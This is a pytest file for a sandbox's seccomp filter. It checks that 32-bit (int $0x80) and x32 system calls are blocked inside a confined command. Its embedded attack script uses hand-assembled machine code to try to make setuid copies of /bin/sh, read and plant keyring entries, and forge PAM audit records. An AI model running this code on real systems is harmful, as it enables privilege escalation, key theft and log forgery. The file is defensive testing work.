"""The seccomp filter under every system call table the kernel takes from a 64-bit command
(the thirty-fifth round, attack27; docs/security.md, "Other system call tables").

An x86_64 kernel with IA32 emulation runs the i386 table for any process that enters it
with ``int $0x80``, a 64-bit one too (the call's architecture is then ``AUDIT_ARCH_I386``,
and a filter must have rules of that table's numbers); the x32 table (numbers with bit 30)
where ``CONFIG_X86_X32_ABI`` is on. The command here is Python with hand-assembled machine
code (ctypes, a ``MAP_32BIT`` page: no compiler, no 32-bit library) making the attacks of
attack24/attack25 through those tables: set-id modes on a file it owns (``chmod``,
``fchmod``, ``fchmodat``, ``fchmodat2``, ``open``/``creat``/``openat`` with ``O_CREAT``,
``mknod``/``mknodat``), in the worktree's git dir (a host directory) and in the fork; the
person's keys (``keyctl`` search, ``add_key``); io_uring and ``openat2``; a ``NETLINK_AUDIT``
socket by ``socketcall(SYS_SOCKET)`` and by i386's own ``socket`` (359). Found: that last
one made the socket (libseccomp writes an i386 socket rule for ``socketcall`` too, whose
arguments are behind a pointer, and avfs had left i386's socket rule out for that); now
avfs's own instructions refuse it. ``socketcall``'s socket was still made (the thirty-sixth
round, attack28): refused now, every socket of that call, where the host has no 32-bit
loader (no program of the system's makes the call); where it has one, made, and the record
it sends refused for want of ``CAP_AUDIT_WRITE`` (dropped), which the test checks too.

Each from inside a real confined `proxy exec`: a mounted fork (both backends) and one with
no mount (the CLI runs bubblewrap itself). Then the person looks: a set-id file under the
home or the mount, a key in their keyring, the record in the kernel's log."""

from __future__ import annotations

import gzip
import json
import os
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

from avfs_git.proxy import seccomp

from .conftest import skip_outside_ci
from .test_adv_audit import _kernel_log
from .test_adv_gitseal import _exec, _script
from .test_adv_gitseal import live as live  # the fixture: both backends
from .test_adv_keyring import _search
from .test_adv_keyring import secret as secret  # a key of the person's; the planted one's name
from .test_adv_setid import _set_id_files
from .test_confine import _need_bwrap

# int $0x80 from 64-bit code: eax, ebx, ecx, edx, esi, edi, ebp from regs[0..6], eax back
# into regs[0] (push rbx, rbp, rdi; the loads; int 0x80; pop rdi; the store; pop; ret)
_ATTACK = """import ctypes, os, shutil, socket, struct, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
CODE = bytes.fromhex("5355578b078b5f048b4f088b570c8b77108b6f188b7f14cd805f89075d5bc3")
def page():
    p = libc.mmap(None, 1 << 16, 7, 0x22 | 0x40, -1, 0)  # rwx, MAP_PRIVATE|ANONYMOUS|32BIT
    assert p not in (None, ctypes.c_void_p(-1).value) and p < 1 << 32, p
    return p
code, data = page(), page()
ctypes.memmove(code, CODE, len(CODE))
call = ctypes.CFUNCTYPE(None, ctypes.c_void_p)(code)
regs = ctypes.cast(data, ctypes.POINTER(ctypes.c_uint32))
at = [data + 64]
def put(b):
    p = at[0]
    ctypes.memmove(p, b, len(b))
    at[0] += (len(b) + 15) & ~15
    return p
def i386(nr, *args):
    vals = [nr, *[(a if isinstance(a, int) else put(a)) & 0xFFFFFFFF for a in args]]
    for i, v in enumerate(vals + [0] * (7 - len(vals))):
        regs[i] = v
    call(data)
    return ctypes.c_int32(regs[0]).value
def say(name, r):
    print(name, r if r >= 0 else os.strerror(-r))
def z(s):
    return s.encode() + b"\\0"
os.umask(0)
G = subprocess.run(["git", "rev-parse", "--absolute-git-dir"], capture_output=True, text=True).stdout.strip()
AT, REG = -100, 0o100000
for d in (G, os.getcwd()):
    shutil.copy("/bin/sh", d + "/rootsh")
    say("chmod", i386(15, z(d + "/rootsh"), 0o4755))
    fd = os.open(d + "/rootsh", os.O_RDONLY)
    say("fchmod", i386(94, fd, 0o6755))
    os.close(fd)
    say("fchmodat", i386(306, AT, z(d + "/rootsh"), 0o2755))
    say("fchmodat2", i386(452, AT, z(d + "/rootsh"), 0o4755, 0))
    say("open", i386(5, z(d + "/opened"), 0o101, 0o6777))
    say("creat", i386(8, z(d + "/created"), 0o4755))
    say("openat", i386(295, AT, z(d + "/openedat"), 0o101, 0o4755))
    say("mknod", i386(14, z(d + "/made"), REG | 0o4755, 0))
    say("mknodat", i386(297, AT, z(d + "/madeat"), REG | 0o2755, 0))
    print("mode", oct(os.stat(d + "/rootsh").st_mode))
    say("plain", i386(15, z(d + "/rootsh"), 0o700))
desc, planted, marker = sys.argv[1:4]
kid = i386(288, 10, -4, z("user"), z(desc), 0)  # KEYCTL_SEARCH the user keyring
say("keyctl", kid)
if kid > 0:
    buf = put(bytes(256))
    n = i386(288, 11, kid, buf, 256)
    print("READ", ctypes.string_at(buf, max(n, 0)))
say("add_key", i386(286, z("user"), z(planted), b"planted", 7, -4))
say("request_key", i386(287, z("user"), z(desc), 0, 0))
say("io_uring_setup", i386(425, 4, bytes(120)))
say("openat2", i386(437, AT, z("x"), bytes(24), 24))
say("socket", i386(359, 16, 3, 9))
say("inet", min(i386(359, 2, 1, 0), 0))
via_call = i386(102, 1, struct.pack("=III", 16, 3, 9))  # socketcall(SYS_SOCKET, args)
say("socketcall", min(via_call, 0))
say("inet-call", min(i386(102, 1, struct.pack("=III", 2, 1, 0)), 0))
for name, fd in (("socket", i386(359, 16, 3, 9)), ("socketcall", via_call)):
    if fd < 0:
        continue
    s = socket.socket(fileno=fd)
    msg = ("op=PAM:authentication acct=root res=success " + marker).encode() + b"\\0"
    try:
        s.sendto(struct.pack("=IHHII", 16 + len(msg), 1107, 5, 1, 0) + msg, (0, 0))
        s.settimeout(10)
        got = s.recv(4096)
        kind = struct.unpack("=H", got[4:6])[0]
        print(name, "answered", struct.unpack("=i", got[16:20])[0] if kind == 2 else "?")
    except OSError as e:
        print(name, "send", e.strerror)
L = ctypes.c_long
def x32(nr, *a):
    r = libc.syscall(L(0x40000000 | nr), *[L(v) if isinstance(v, int) else ctypes.c_char_p(v) for v in a])
    return r if r >= 0 else -ctypes.get_errno()
say("x32-chmod", x32(90, b"rootsh", 0o4755))
say("x32-open", x32(2, b"x32opened", 0o101, 0o4755))
say("x32-add_key", x32(248, b"user", planted.encode(), b"p", 1, -4))
say("x32-socket", x32(41, 16, 3, 9))
r = libc.syscall(L((1 << 32) | 90), ctypes.c_char_p(b"rootsh"), L(0o4755))  # (the kernel reads nr's low half)
say("high-chmod", r if r >= 0 else -ctypes.get_errno())
"""


def _need_ia32() -> None:
    """An x86_64 kernel that takes ``int $0x80`` (IA32 emulation built in and not turned off)."""
    why = None
    if os.uname().machine != "x86_64":
        why = f"the attack is x86_64 machine code ({os.uname().machine} here)"
    else:
        try:
            with gzip.open("/proc/config.gz", "rt") as fh:
                if "CONFIG_IA32_EMULATION=y" not in fh.read():
                    why = "this kernel has no IA32 emulation"
        except OSError:
            pass  # (no config to read: the attack finds out)
        with open("/proc/cmdline", encoding="utf-8") as fh:
            if {"ia32_emulation=0", "ia32_emulation=false"} & set(fh.read().split()):
                why = "IA32 emulation is turned off"
    if why:
        skip_outside_ci(why, "CI runs on x86_64 kernels with IA32 emulation")


def _holds(stdout: str, home: str, where: str, secret: tuple[str, str, str], marker: str) -> None:
    """What the command printed and what the person finds afterwards."""
    lines = stdout.splitlines()
    for call in ("chmod", "fchmod", "fchmodat", "fchmodat2", "open", "creat", "openat", "mknod", "mknodat"):
        said = [line for line in lines if line.startswith(call + " ")]
        assert said == [f"{call} Operation not permitted"] * 2, stdout
    assert lines.count("mode 0o100755") == 2 and lines.count("plain 0") == 2, stdout
    found = _set_id_files(home, where)
    assert found == [], f"set-id files the command made: {found}"
    # the person's keys: neither found nor read, none planted
    desc, value, planted = secret
    assert value not in stdout and "READ" not in stdout, stdout
    for call in ("keyctl", "add_key", "request_key", "io_uring_setup", "openat2", "x32-add_key"):
        assert f"{call} Function not implemented" in lines, stdout
    assert _search(planted) == 0, f"the command planted a key in the person's keyring: {stdout}"
    assert _search(desc) > 0
    # i386's own socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT): refused as audit-less kernels do
    assert "socket Protocol not supported" in lines, stdout
    assert "inet 0" in lines, stdout  # (another protocol's socket is made)
    # socketcall(SYS_SOCKET): its socket's arguments behind a pointer, every socket refused
    # where the host runs no 32-bit program (attack28), made where it does (the dropped
    # capability then refuses the record: below)
    made = "socketcall 0" if seccomp.ia32_userland() else "socketcall Function not implemented"
    inet = "inet-call 0" if seccomp.ia32_userland() else "inet-call Function not implemented"
    assert made in lines and inet in lines, stdout
    assert "answered 0" not in stdout, f"the kernel took the command's audit record: {stdout}"
    log = _kernel_log()
    assert log is None or marker not in log, "the host's kernel log holds the command's record"
    # x32: refused by the filter (or, where the kernel has no x32 table, by the kernel)
    for call in ("x32-chmod", "x32-open"):
        assert f"{call} Operation not permitted" in lines or f"{call} Function not implemented" in lines, (
            stdout
        )
    assert "x32-socket Protocol not supported" in lines or "x32-socket Function not implemented" in lines
    assert "high-chmod Operation not permitted" in lines, stdout  # (the filter reads the same half)


def test_a_mounted_fork_s_32_bit_calls_are_filtered_as_its_own(
    live: Any, home: Any, vault: Any, tmp_path: Path, secret: tuple[str, str, str]
) -> None:
    """The mount's daemon runs the command (warm): every attack through the i386 table (and
    x32's) is refused as the 64-bit one is; the person finds no set-id file, no planted
    key, no forged record."""
    _need_ia32()
    marker = f"avfs-attack27-{uuid.uuid4().hex[:12]}"
    _script(live, "ia32.py", _ATTACK)
    doc = _exec("python3", "ia32.py", secret[0], secret[2], marker)
    assert doc["exit_code"] == 0, doc["result"]
    _holds(doc["result"]["stdout"], home.path, live.mountpoint, secret, marker)
    # the run's commit, in a clone the person makes: nothing set-id checked out either
    assert doc["commit"] is not None, doc
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", vault.path, str(clone)], check=True, capture_output=True)
    assert (clone / "rootsh").exists() and _set_id_files(str(clone)) == []


def test_an_unmounted_fork_s_32_bit_calls_are_filtered_as_its_own(
    home: Any, vault: Any, tmp_path: Any, secret: tuple[str, str, str]
) -> None:
    """No mount: the CLI's own process starts bubblewrap; the same filter holds."""
    _need_bwrap()
    _need_ia32()
    marker = f"avfs-attack27-{uuid.uuid4().hex[:12]}"
    vault.workspace("main").write("ia32.py", _ATTACK.encode())
    r = subprocess.run(
        [sys.executable, "-m", "avfs_git", "--vault", "v:main", "--json", "proxy", "exec", "--",
         "python3", "ia32.py", secret[0], secret[2], marker],
        capture_output=True, timeout=300, check=False,
    )  # fmt: skip
    doc = json.loads(r.stdout)
    assert doc["confinement"]["kind"] == "bwrap", doc["confinement"]
    assert doc["exit_code"] == 0, doc
    _holds(doc["result"]["stdout"], home.path, str(tmp_path), secret, marker)
